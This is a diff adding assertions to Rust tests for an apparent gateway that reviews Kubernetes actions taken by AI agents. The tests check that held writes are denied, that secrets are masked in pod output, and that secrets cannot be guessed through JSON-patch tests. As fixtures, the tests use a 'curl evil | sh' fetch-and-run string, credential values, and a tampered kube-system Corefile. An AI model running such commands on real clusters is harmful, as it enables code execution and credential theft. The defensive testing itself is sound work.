@@ -1025,6 +1025,10 @@ then = "deny"
     assert_eq!(code, 403, "{body}");
     assert!(body.contains("agent-review-k8s-workloads"), "{body}");
     assert!(denier.join().unwrap() >= 1);
+    // The reviewer saw what the write would do: its body is in the held action's record.
+    let rec = gw.recorded();
+    let (shown, decided) = (rec.find("curl evil | sh"), rec.find("review_decided"));
+    assert!(shown.is_some() && shown < decided, "the body before the decision: {rec}");
     let (pod, _) = text(&kubectl(&admin, &["get", "pod", "pod-0", "-o", "json"]));
     assert!(!pod.contains("evil") && !pod.contains("db-creds"), "the pod is as it was: {pod}");
     let cm = r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"coredns-x","namespace":"kube-system"},"data":{"Corefile":"evil"}}"#;
@@ -1063,6 +1067,9 @@ fn config_file_credentials_are_masked_and_cannot_be_tested() {
     for leak in ["BlockPw3", "FlowPw4", "ListPw7", "XmlPw888", "DotNetPw2", "RedisPw12", "v1aaaa", "Hunter2Secret"] {
         assert!(!out.contains(leak), "{leak}: {out}");
     }
+    // What a pod prints of its environment is masked by name too (`printenv` through exec).
+    let (out, err) = text(&kubectl(&kc, &["exec", "pod-0", "--", "printf", "API_TOKEN=abcdef123\\nPGPASSWORD=zzz999\\nMODE=fast\\n"]));
+    assert!(out.contains("API_TOKEN=") && out.contains("MODE=fast") && !out.contains("abcdef123") && !out.contains("zzz999"), "{out} {err}");
     for guess in ["wrong", "Hunter2Secret"] {
         let patch = format!(r#"[{{"op":"test","path":"/data/password","value":"{guess}"}}]"#);
         let o = kubectl(&kc, &["patch", "cm", "cfgleak", "--type=json", "-p", &patch]);
